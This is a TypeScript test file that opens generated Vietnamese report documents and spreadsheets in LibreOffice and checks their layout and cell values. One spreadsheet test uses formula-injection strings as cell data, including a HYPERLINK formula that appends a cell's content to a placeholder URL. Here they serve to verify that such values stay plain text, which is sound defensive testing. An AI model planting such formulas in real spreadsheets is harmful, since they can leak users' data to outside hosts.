/** The files as an office suite opens them: LibreOffice, where it is installed. Each of these takes a second or two. */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, describe, expect, test } from 'vitest';
import { reportDocx } from '../../src/documents/docx.ts';
import { paragraph, type Report } from '../../src/documents/report.ts';
import { boldWidth } from '../../src/documents/width.ts';
import { figuresXlsx } from '../../src/documents/xlsx.ts';
import { forms, party, state } from './samples.ts';

const folder = mkdtempSync(join(tmpdir(), 'cau-noi-office-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const run = (program: string, args: readonly string[]): string | undefined => {
  const { status, stdout } = spawnSync(program, args, { encoding: 'utf8', cwd: folder });
  return status === 0 ? stdout : undefined;
};
const missing = ['soffice', 'pdftotext'].filter((program) => spawnSync(program, ['-v']).error !== undefined);
const why = `waits for ${missing.join(' and ')}: Debian's libreoffice-writer, libreoffice-calc and poppler-utils`;
/** Fonts with the widths of Times New Roman; with another one lines break elsewhere. */
const font = run('fc-match', ['Times New Roman']) ?? '';
const fonts = "waits for a font with the widths of Times New Roman: Debian's fonts-liberation or fonts-croscore";
const sameWidths = /Times New Roman|Tinos|Liberation Serif/.test(font);

/** Converts all at once: the program takes most of its time to start. */
const convert = (to: string, files: Readonly<Record<string, Uint8Array>>): void => {
  for (const [name, bytes] of Object.entries(files)) writeFileSync(join(folder, name), bytes);
  const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile'))}`;
  const done = run('soffice', [profile, '--headless', '--convert-to', to, ...Object.keys(files)]);
  if (done === undefined) throw new Error('soffice did not convert the files');
};

/** The lines of each page, in reading order. */
const pages = (name: string): string[][] =>
  run('pdftotext', ['-layout', `${name}.pdf`, '-'])!
    .split('\f')
    .slice(0, -1)
    .map((page) => page.split('\n').filter((line) => line.trim() !== ''));

/** Every line with its width in points; where fonts change inside a word, its pieces come apart, so only letters are compared. */
const lines = (name: string): { letters: string; width: number }[] =>
  [
    ...run('pdftotext', ['-bbox-layout', `${name}.pdf`, '-'])!.matchAll(
      /<line xMin="([^"]*)" .*?xMax="([^"]*)".*?<\/line>/gs,
    ),
  ].map(([line, left, right]) => ({
    letters: [...line.matchAll(/>([^<\s]+)<\/word>/g)].map(([, letters]) => letters).join(''),
    width: Number(right) - Number(left),
  }));

describe('Word files', () => {
  test('headings are one line each, and as wide as the rule below them was made', async ({ skip }) => {
    skip(missing.length > 0, why);
    skip(!sameWidths, fonts);
    convert('pdf', { 'party.docx': await reportDocx(party), 'state.docx': await reportDocx(state) });
    const nation = 'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM';
    expect(pages('state')[0]!.filter((line) => line.includes(nation))).toHaveLength(1);
    expect(pages('party')[0]!.filter((line) => line.includes('ĐẢNG CỘNG SẢN VIỆT NAM'))).toHaveLength(1);
    // The page number: none on the first page, in the upper margin of the second; the annex begins anew.
    expect(pages('state').map((page) => page[0]!.trim())).toEqual([
      expect.stringContaining('UBND TỈNH VÍ DỤ'),
      '2',
      'Phụ lục',
    ]);
    for (const [text, size] of [
      [nation, 13],
      ['Độc lập - Tự do - Hạnh phúc', 14],
    ] as const) {
      const [line, ...more] = lines('state').filter((each) => each.letters === text.replaceAll(' ', ''));
      expect(more).toEqual([]);
      expect(boldWidth(text, size) / line!.width).toBeGreaterThan(0.99);
      expect(boldWidth(text, size) / line!.width).toBeLessThan(1.01);
    }
  });

  test('wherever the text ends, the signature has two lines of it on its page, and no page is empty', async ({
    skip,
  }) => {
    skip(missing.length > 0, why);
    skip(!sameWidths, fonts);
    const long = (report: Report, lines: number): Report => ({
      ...report,
      closing: Array.from({ length: lines }, (_, i) =>
        paragraph(i === lines - 1 ? 'Câu cuối cùng.' : 'Một câu ngắn để đẩy phần ký xuống cuối trang.'),
      ),
    });
    const files: Record<string, Uint8Array> = {};
    for (let lines = 17; lines < 23; lines += 1) {
      files[`party-${lines}.docx`] = await reportDocx(long(party, lines));
      files[`state-${lines}.docx`] = await reportDocx(long(state, lines));
    }
    convert('pdf', files);
    const seen = new Set<number>();
    for (const name of Object.keys(files)) {
      const all = pages(name.replace('.docx', ''));
      const at = all.findIndex((page) => page.some((line) => line.includes('Nơi nhận:')));
      const page = all[at]!;
      const body = page.slice(
        1,
        page.findIndex((line) => line.includes('Nơi nhận:')),
      );
      expect(body.length, name).toBeGreaterThanOrEqual(2);
      expect(
        page.some((line) => line.includes('(dự thảo, chưa ký)')),
        name,
      ).toBe(true);
      expect(all[at + 1]![0]!.trim(), name).toBe('Phụ lục');
      expect(all.length, name).toBe(at + 2);
      seen.add(body.length);
    }
    // The sweep went over the end of a page: on one the signature had just two lines, on another many.
    expect(Math.min(...seen)).toBe(2);
    expect(Math.max(...seen)).toBeGreaterThan(10);
  });
});

describe('spreadsheets', () => {
  test('open with the same numbers and texts', async ({ skip }) => {
    skip(missing.length > 0, why);
    const table = {
      columns: [
        { title: 'Nội dung', kind: 'text', width: 60 },
        { title: 'Số', kind: 'count', width: 30 },
      ],
      rows: ['=1+1', '@SUM(A1)', '-1', '+84 900', '=HYPERLINK("http://x/?"&A1,"mở")', '#N/A', '007'].map((text, i) => ({
        values: [text, 1000 + i],
      })),
    } as const;
    const file = await figuresXlsx({ ...party.annex, tables: [table, ...party.annex.tables], forms });
    // Every sheet to a file of its own (-1), as UTF-8 (76), numbers as they are stored and not as they are shown (false).
    convert('csv:Text - txt - csv (StarCalc):9,34,76,1,,0,false,false,false,false,false,-1', { 'figures.xlsx': file });
    const rows = (sheet: string): string[][] =>
      readFileSync(join(folder, `figures-${sheet}.csv`), 'utf8')
        .trimEnd()
        .split('\n')
        .map((line) => line.split('\t').map((cell) => cell.replace(/^"(.*)"$/s, '$1').replaceAll('""', '"')));
    expect(rows('Số liệu').slice(3, 10)).toEqual(table.rows.map(({ values }) => [values[0], String(values[1])]));
    expect(rows('Số liệu 2')[3]!.slice(1, 6)).toEqual([
      'Phản ánh, kiến nghị tiếp nhận',
      'lượt',
      '1202',
      '1310',
      '-108',
    ]);
    expect(rows('01-TCD')[8]).toEqual(['UBND xã Ví Dụ', ...forms[0]!.rows[0]!.values.map(String)]);
    expect(rows('01-XLD')[7]).toEqual(['UBND xã Ví Dụ', ...forms[1]!.rows[0]!.values.map(String)]);
  });
});
